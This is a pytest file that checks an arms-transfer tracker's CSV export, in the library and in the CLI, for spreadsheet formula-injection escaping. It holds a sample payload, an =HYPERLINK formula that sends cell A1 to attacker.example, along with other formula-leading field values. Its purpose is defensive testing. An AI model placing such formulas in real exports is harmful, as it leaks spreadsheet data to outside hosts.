"""The CSV export against spreadsheet formula injection, on a real SQLite store and the real CLI.

A cell that begins with "=", "+", "-", "@", a tab or a carriage return is
run as a formula by Excel; text from articles must come out as text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from armstrace.export import export_events
from armstrace.export.base import FORMULA_TRIGGERS, spreadsheet_safe
from armstrace.export.csv import COLUMNS
from armstrace.model import Event, Evidence, Item, Quantity, Stance
from armstrace.store import open_store
from conftest import make_result, ref, run_cli

HOSTILE_SENTENCE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Iran delivered drones")'


def _store_hostile_event(path: Path) -> str:
    """A stored, fused event whose evidence sentence and names start like formulas; returns its id."""
    text = HOSTILE_SENTENCE + " Officials confirmed it."
    event = Event(
        type="transfer",
        supplier=ref("org:at-risk", "@SUM(1+1)"),
        recipient=ref("RUS", "-Russia"),
        items=[Item("uav", ref("sys:shahed-136", "+Shahed-136"))],
        status="delivered",
        quantity=Quantity("-5 units", 5, 5),
        stance=[Stance(ref("USA", "United States"), "asserts")],
        evidence=[Evidence(HOSTILE_SENTENCE, 0, len(HOSTILE_SENTENCE))],
    )
    with open_store(str(path)) as store:
        claim_ids = store.add_result(make_result(text=text, events=[event], title="\tTabbed title"))
        claim = store.claims(claim_ids)[0]
        return store.upsert_event(dict(claim["event"], id="ev-hostile"), claim_ids)


def _rows(csv_text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(csv_text))
    assert reader.fieldnames == COLUMNS
    return list(reader)


def test_cells_that_start_like_formulas_are_quoted(tmp_path: Path) -> None:
    path = tmp_path / "hostile.db"
    event_id = _store_hostile_event(path)
    stream = io.StringIO()
    with open_store(str(path)) as store:
        assert export_events(store, "csv", stream) == 1
    [row] = _rows(stream.getvalue())
    assert row["id"] == event_id
    # The evidence sentence is there, whole, behind one single quote.
    assert row["evidence"] == "'" + HOSTILE_SENTENCE
    assert row["supplier_name"] == "'@SUM(1+1)"
    assert row["recipient_name"] == "'-Russia"
    assert row["system_names"] == "'+Shahed-136"
    assert row["quantity_text"] == "'-5 units"
    # Cells that do not start like a formula are left as they were.
    assert row["supplier_id"] == "org:at-risk" and row["recipient_id"] == "RUS"
    assert row["quantity_min"] == "5" and row["claims"] == "1"
    # No cell of the row starts with a trigger any more.
    assert not [key for key, value in row.items() if value.startswith(FORMULA_TRIGGERS)]


def test_cli_export_quotes_the_evidence_cell(tmp_path: Path) -> None:
    path = tmp_path / "hostile.db"
    _store_hostile_event(path)
    exported = run_cli("export", "--db", str(path), "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    [row] = _rows(exported.stdout)
    assert row["evidence"] == "'" + HOSTILE_SENTENCE


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_spreadsheet_safe_on_every_trigger(trigger: str) -> None:
    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"


def test_spreadsheet_safe_leaves_plain_values() -> None:
    assert spreadsheet_safe("Iran = supplier") == "Iran = supplier"  # only the first character counts
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(-3) == -3  # numbers are numbers
    assert spreadsheet_safe(None) is None
